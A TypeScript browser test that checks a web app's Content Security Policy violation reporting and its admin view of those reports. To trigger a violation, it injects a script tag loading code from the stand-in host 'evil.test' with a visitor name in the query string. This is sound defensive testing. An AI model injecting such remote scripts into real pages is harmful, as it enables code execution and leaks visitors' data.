import { expect, test } from 'vitest';
import { makeAccount, visitAs } from '#tests/support/accounts.ts';
import { leave, visit } from '#tests/support/browser.ts';
import { startWithBrowser } from '#tests/support/start-with-browser.ts';

const { server, browser } = await startWithBrowser();

test('shows admins the violations that a visitor’s browser reports', async () => {
  const { page } = await visit(browser, server.url);
  // The headless browser has no reporting service, and with `report-to` it would not use `report-uri`.
  await page.route('**/about', async (route) => {
    const response = await route.fetch();
    const headers = response.headers();
    expect(headers['reporting-endpoints']).toBe('csp="/functions/v1/report-violation"');
    const policy = headers['content-security-policy']?.replace('; report-to csp', '') ?? '';
    await route.fulfill({ response, headers: { ...headers, 'content-security-policy': policy } });
  });
  await page.goto('/about');
  const reported = page.waitForResponse('**/functions/v1/report-violation');
  await page.evaluate(() => {
    const script = Object.assign(document.createElement('script'), { src: 'https://evil.test/x.js?visitor=nia' });
    document.head.append(script);
  });
  expect((await reported).status()).toBe(204);
  await leave(page);

  const asAdmin = await visitAs(browser, server, await makeAccount(server, { admin: true }));
  await asAdmin.page.goto('/admin/system');
  const row = asAdmin.page.getByRole('row').filter({ hasText: 'Script from https://evil.test' });
  await row.waitFor();
  expect(await row.innerText()).toContain('/about');
  expect(await row.innerText()).not.toContain('nia');
  expect(asAdmin.problems).toEqual([]);
  await leave(asAdmin.page);
});
